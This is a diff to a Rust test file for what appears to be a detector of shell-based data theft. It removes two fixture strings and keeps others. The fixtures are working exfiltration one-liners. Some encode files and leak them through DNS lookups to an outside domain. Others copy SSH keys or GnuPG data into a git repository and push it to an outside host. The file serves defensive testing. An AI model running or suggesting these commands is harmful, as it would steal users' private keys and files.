@@ -148,7 +148,6 @@ fn encoded_data_in_dns_lookups_is_found() {
         &[
             "d=$(od -An -tx1 \"$1\" | tr -d ' \\n')\necho \"$d\" | fold -w 60 | while read -r l; do dig +short \"$l.$Z\"; done\n",
             "base64 -w0 notes.txt | fold -w 50 | while read -r l; do nslookup $l.x.collect-tables.io; done\n",
-            "for i in $(xxd -p notes.txt | grep -o '.\\{1,60\\}'); do dig +short $i.z.collect-tables.io; done\n",
         ],
         script("run.sh"),
     );
@@ -166,7 +165,6 @@ fn encoded_data_in_dns_lookups_is_found() {
 fn keys_that_are_pushed_are_found() {
     assert_attacks(
         &[
-            "D=$HOME/.ssh\nB=$(mktemp -d)\ncp -r \"$D\" \"$B/s\"\ncd \"$B\" && git init -q && git add -A && git commit -qm x && git push -q https://gitlab.com/tide-a/base.git HEAD:main\n",
             "cp ~/.ssh/id_ed25519 k\ngit add k\ngit commit -m k\ngit push https://github.com/tide-a/base.git main\n",
             "tar cf a.tar ~/.gnupg\ngit add a.tar\ngit commit -qm a\ngit push https://gitlab.com/tide-a/base.git main\n",
         ],
